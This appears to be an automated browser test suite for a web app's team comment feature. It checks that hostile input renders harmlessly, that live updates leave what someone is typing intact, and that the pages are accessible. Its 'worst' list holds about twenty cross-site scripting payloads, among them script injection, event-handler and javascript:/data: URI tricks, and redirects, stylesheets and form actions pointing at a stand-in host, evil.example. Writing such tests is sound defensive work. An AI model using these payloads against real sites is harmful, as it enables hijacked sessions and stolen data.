// Comments in a real browser, with script on: what people write shows as they meant it, the worst
// that anybody can write does nothing, and what one says appears at the others, never over what
// they are typing.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, violations } from "./browser.mjs";
import { arrive as arriveWith, ben, plain, settled as settledWith, sitDown } from "./person.mjs";
import { serve } from "./server.mjs";

let browser;
before(async () => (browser = await launch()));
after(() => browser?.close());

const team = "/peer-teams/north-group";
const arrive = (t, server, options = {}) =>
  arriveWith(t, server, { browser, script: true, ...options });

// Ana and Ben, each in a browser of their own, and the page of a team that Ana named.
const two = async (t, server, options = {}) => {
  const a = await settledWith(t, server, { browser, script: true, ...options });
  const b = await arrive(t, server, options);
  await b.page.goto(a.link);
  await sitDown(b, ben);
  await a.go(`${team}/teams`);
  await a.fill("name", "Payments");
  await a.press("Add it");
  await a.follow("Payments");
  return { a, b, at: new URL(a.page.url()).pathname };
};
const say = async (it, words) => {
  await it.fill("words", words);
  await it.press("Say it");
};

const worst = [
  "<script>document.title='taken'</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "![x](https://evil.example/pixel.gif)",
  "<svg onload=alert(1)><script>alert(2)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  "<style>@import 'https://evil.example/x.css'; main{display:none}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "</div></li></ol></section></main></body><script>alert(1)</script>",
  "</textarea></form><form action=https://evil.example><button class=loud>Say it</button>",
  "<div style='position:fixed;inset:0' hx-get='/account' hx-trigger=load>over all</div>",
  "<p hx-on:click=\"alert(1)\" hx-nonce=x id=main role=alert>x</p>",
  "[a](javascript:alert(1)) [b](java\tscript:alert(1)) <javascript:alert(1)>",
  "[a](&#106;avascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[![x](https://evil.example/x\" onerror=\"alert(1))](https://evil.example)",
  "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>",
];

test("the worst that anybody can write is read, and does nothing", async (t) => {
  const server = await serve(t);
  const { a, b, at } = await two(t, server);
  const dialogs = [];
  const reports = [];
  for (const it of [a, b]) {
    it.page.on("dialog", (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
    await it.page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (event) => {
        console.error(`the policy was needed: ${event.violatedDirective} ${event.blockedURI}`);
      });
    });
    it.page.on("console", (line) => /policy/i.test(line.text()) && reports.push(line.text()));
    await it.go(at);
  }
  for (const words of worst) await say(a, words);
  await b.page.locator(".written").nth(worst.length - 1).waitFor({ timeout: 10_000 });
  for (const it of [a, b]) {
    await it.page.goto(it.page.url());
    const shown = it.page.locator(".comments .written");
    assert.equal(await shown.count(), worst.length, "each stands in its place");
    assert.match(plain(await shown.first().textContent()), /^<script>document\.title='taken'/);
    const links = await shown.locator("a").evaluateAll((all) => all.map((it) => it.href));
    assert.ok(links.every((link) => link.startsWith("https://")), links.join(" "));
    for (const link of await shown.getByText(/^[ab]$/).all()) {
      assert.notEqual(await link.evaluate((it) => it.tagName), "A");
    }
    // Whoever clicks around in it, but on a link, goes nowhere either.
    for (const one of await shown.locator("p:not(:has(a)), code").all()) await one.click();
    assert.equal(new URL(it.page.url()).pathname, at);
    assert.deepEqual(it.wrong, []);
  }
  assert.deepEqual(dialogs, []);
  assert.deepEqual(reports, []);
  assert.equal(server.complaint(), "");
});

test("what one says appears at the other, never over what they are typing", async (t) => {
  const server = await serve(t);
  const { a, b, at } = await two(t, server);
  await b.go(at);
  await b.page.evaluate(() => { window.stayed = true; });
  await b.page.locator("[name=words]").pressSequentially("Half a sen");
  await say(a, "They wait for *us*.\n\n- taxes\n- letters");
  await b.page.locator(".written li", { hasText: "letters" }).waitFor({ timeout: 5000 });
  assert.equal(await b.page.inputValue("[name=words]"), "Half a sen");
  await b.page.keyboard.type("tence");
  await b.press("Say it");
  await a.page.locator(".written", { hasText: "Half a sentence" }).waitFor({ timeout: 5000 });
  await b.page.getByRole("link", { name: "Edit or delete" }).click();
  await b.fill("words", "A whole sentence");
  await b.press("Save");
  await a.page.locator(".written", { hasText: "A whole sentence" }).waitFor({ timeout: 5000 });
  assert.match(plain(await a.page.locator(".comments").textContent()), /edited/);
  await b.page.getByRole("button", { name: /^Undo/ }).first().click();
  await a.page.locator(".written", { hasText: "Half a sentence" }).waitFor({ timeout: 5000 });
  await b.page.getByRole("link", { name: "Edit or delete" }).click();
  await b.page.locator("summary", { hasText: "Delete it" }).click();
  await b.press("Delete it for good");
  await a.page.locator(".gap", { hasText: "Ben Ortiz deleted a comment" }).waitFor({ timeout: 5000 });
  for (const it of [a, b]) assert.deepEqual(it.wrong, []);
});

test("axe objects to nothing about comments, and nothing is wider than a phone", async (t) => {
  const server = await serve(t);
  const { a, b, at } = await two(t, server, { checked: true });
  const looks = async ({ page }, name) => {
    for (const [scheme, width] of [["light", 1280], ["dark", 320]]) {
      await t.test(`${name}: ${scheme}, ${width} px`, async () => {
        await page.setViewportSize({ width, height: 900 });
        await page.emulateMedia({ colorScheme: scheme, reducedMotion: "reduce" });
        await page.evaluate(() => {
          document.querySelectorAll("details").forEach((it) => (it.open = true));
        });
        const wide = await page.evaluate(() => document.documentElement.scrollWidth);
        assert.ok(wide <= width, `${wide} px wide`);
        assert.deepEqual(await violations(page), []);
      });
    }
  };
  await looks(a, "a team, nothing said");
  await say(a, `${"long".repeat(60)}\n\n\`\`\`\n${"code ".repeat(60)}\n\`\`\`\n\n1. one\n2. two`);
  await b.go(at);
  await say(b, "> Quoted\n\n[a link](https://example.org), **loud**, `code`");
  await looks(b, "a team, talked about");
  await b.page.getByRole("link", { name: "Edit or delete" }).click();
  await looks(b, "a comment");
  await b.fill("words", "Better");
  await b.press("Save");
  await b.page.getByRole("link", { name: "Edit or delete" }).click();
  await b.fill("words", "x".repeat(5001));
  await b.press("Save");
  await looks(b, "a comment, refused");
  await a.go(at);
  await say(a, "y".repeat(5001));
  await looks(a, "commenting, refused");
  await a.go(`${team}/history`);
  await looks(a, "history, with undos");
  await a.go(`${team}/whys`);
  await a.follow("Share mine");
  await a.press("Share it");
  await a.page.getByRole("link", { name: /^Comment/ }).click();
  await looks(a, "a why");
  await a.go(`${team}/proposals/proposing?aim=archiving`);
  await a.press("Propose it");
  await a.page.getByRole("link", { name: /^Talk about it/ }).click();
  await looks(a, "a proposal");
  for (const it of [a, b]) assert.deepEqual(it.wrong, []);
});
